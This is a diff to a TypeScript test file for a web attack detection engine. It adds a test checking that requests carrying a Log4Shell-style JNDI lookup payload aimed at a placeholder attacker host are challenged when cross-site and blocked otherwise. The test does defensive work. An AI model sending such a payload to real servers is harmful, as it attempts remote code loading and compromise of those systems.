@@ -3,7 +3,7 @@ import { mkdtemp, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { describe, test } from 'node:test'
-import type { Event } from '@postern/core'
+import { Engine, type Event } from '@postern/core'
 import fc from 'fast-check'
 import { type ScenarioDetector, scenarioDetector } from '../../src/scenario/scenario-detector.ts'
 import { loadScenarios, watchScenarios } from '../../src/scenario/scenario-files.ts'
@@ -169,6 +169,39 @@ describe('correlations', () => {
     detector.replace(counting(2, '10s'))
     assert.equal(fires(detector, at(1)), true)
   })
+})
+
+test('a page that makes its visitors ask for an exploit gets them challenged, not banned', () => {
+  const detector = scenarioDetector({ scenarios: loadScenarios() })
+  const measures: (string | undefined)[] = []
+  const engine = new Engine({
+    detectors: [detector],
+    remediations: {
+      find: () => undefined,
+      apply: finding => {
+        measures.push(finding.respond?.measure)
+        return undefined
+      },
+    },
+  })
+  for (const [peer, headers] of [
+    ['192.0.2.7', ['Sec-Fetch-Site', 'cross-site', 'Sec-Fetch-Mode', 'no-cors']],
+    ['192.0.2.8', []],
+  ] as const) {
+    const exchange = engine.open({
+      method: 'GET',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
+      target: '/?x=${jndi:ldap://evil.example/a}',
+      headers: ['Host', 'h', ...headers],
+      peer,
+      secure: false,
+      httpVersion: '1.1',
+      body: undefined,
+      native: undefined,
+    })
+    engine.settle(exchange, { status: 404, duration: 1, bytes: 0, aborted: false })
+  }
+  assert.deepEqual(measures, ['challenge', 'block'])
 })
 
 describe('rule folders', () => {
